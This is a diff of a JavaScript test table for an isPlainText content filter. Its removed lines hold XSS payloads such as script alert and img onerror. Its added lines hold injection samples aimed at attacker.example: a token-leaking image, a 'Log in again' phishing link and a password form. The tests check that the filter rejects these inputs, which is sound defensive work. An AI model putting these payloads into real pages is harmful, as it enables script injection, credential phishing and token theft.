@@ -1,16 +1,16 @@
-import { isPlainMarkup } from './trusted-types';
+import { isPlainText } from './trusted-types';
 
 it.each([
   ['.anticon { display: inline-flex }', true],
-  ['<div class="g2-tooltip"><ul><li style="color:#fff">50.6</li></ul></div>', true],
-  ['<p>a < b and c = d</p>', true],
-  ['<script>alert(1)</script>', false],
-  ['<img src=x onerror=alert(1)>', false],
-  ['<IMG SRC=x OnError = alert(1)>', false],
-  ['<a href="javascript:alert(1)">', false],
-  ['<iframe srcdoc="x">', false],
-  ['<svg><animate onbegin=alert(1)>', false],
+  ['.menu > li::after { content: "\\201C" }', true],
+  ['', true],
+  ['<div class="g2-tooltip"></div>', true],
+  ['<div class="g2-tooltip"><img src="https://attacker.example/?token"></div>', false],
+  ['<b>bold</b>', false],
+  ['<a href="https://attacker.example">Log in again</a>', false],
+  ['<form action="https://attacker.example"><input name="password"></form>', false],
+  ['<style>*{display:none}</style>', false],
   ['< script >', false],
-])('%s is plain: %s', (text, plain) => {
-  expect(isPlainMarkup(text)).toBe(plain);
+])('%s passes the default policy: %s', (text, passes) => {
+  expect(isPlainText(text)).toBe(passes);
 });
